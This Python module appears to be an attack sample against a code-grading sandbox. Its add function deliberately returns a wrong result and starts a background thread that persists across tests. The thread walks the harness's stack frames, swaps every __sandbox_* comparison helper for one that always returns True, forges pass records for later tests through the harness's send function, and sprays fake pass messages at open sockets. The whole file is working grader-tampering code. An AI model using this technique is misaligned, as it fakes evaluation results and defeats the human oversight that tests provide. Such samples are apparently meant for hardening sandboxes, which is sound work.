"""Attack: a thread that outlives add and keeps tampering while the later tests run.

The first call of add starts a daemon thread and returns a wrong answer at once. The thread loops
for as long as the process lives: through sys._current_frames() it watches the main thread's stack;
in every frame's locals and globals it finds the dicts of test helpers or namespaces and replaces
each comparison helper (__sandbox_*__) with one that always returns True, grabs any
record-sending callable (`send`) and forges "P" records for the tests after the current one, and
now and then sprays pass-looking records at every socket fd. add itself stays wrong (a - b).
"""

import os
import socket
import stat
import sys
import threading
import time

STARTED = []
FORGED = set()


def _always(*args, **kwargs):
    return True


def _tamper_namespace(ns):
    for name in list(ns):
        if isinstance(name, str) and name.startswith("__sandbox_") and ns[name] is not _always:
            try:
                ns[name] = _always
            except Exception:
                pass


def _forge(frame_locals):
    send = frame_locals.get("send")
    index = frame_locals.get("index")
    tests = frame_locals.get("tests")
    if not callable(send) or not isinstance(index, int):
        return
    n = len(tests) if isinstance(tests, (list, tuple)) else 16
    for i in range(index + 1, n + 1):
        if i not in FORGED:
            try:
                send(b"P", i, b"")
                FORGED.add(i)
            except Exception:
                return


def _spray_sockets():
    for fd in range(3, 256):
        try:
            if not stat.S_ISSOCK(os.fstat(fd).st_mode):
                continue
            s = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        try:
            s.setblocking(False)
            s.send(b"0" * 32 + b" P 2 ")
        except OSError:
            pass
        finally:
            s.close()


def _loop(main_id):
    rounds = 0
    while True:
        rounds += 1
        frame = sys._current_frames().get(main_id)
        while frame is not None:
            try:
                for value in list(frame.f_locals.values()):
                    if isinstance(value, dict):
                        _tamper_namespace(value)
                _tamper_namespace(frame.f_globals)
                _forge(frame.f_locals)
            except Exception:
                pass
            frame = frame.f_back
        if rounds % 50 == 1:
            _spray_sockets()
        time.sleep(0.0005)


def add(a, b):
    if not STARTED:
        STARTED.append(1)
        threading.Thread(target=_loop, args=(threading.get_ident(),), daemon=True).start()
    return a - b
